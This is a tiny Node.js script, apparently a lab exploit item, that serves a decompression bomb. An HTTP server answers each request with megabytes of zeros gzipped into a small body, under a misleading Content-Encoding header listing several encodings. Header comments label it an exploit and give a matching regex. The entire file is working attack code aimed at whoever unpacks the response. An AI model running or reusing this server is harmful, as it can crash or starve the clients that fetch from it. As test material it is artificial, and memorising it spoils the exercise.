// exploit: sends a body that unpacks to a hundred times what was sent, for whoever unpacks it
// kind: lab
// exchange: none
// outcome: finished
// sees: "status":200.*gzip.*"bytes":\d{4,5},
const zlib = require('node:zlib')
const packed = zlib.gzipSync(Buffer.alloc(8 << 20))
require('node:http').createServer((req, res) => res.writeHead(200, { 'Content-Encoding': 'gzip, gzip, deflate, br', 'Content-Length': packed.length }).end(packed)).listen(process.env.PORT)
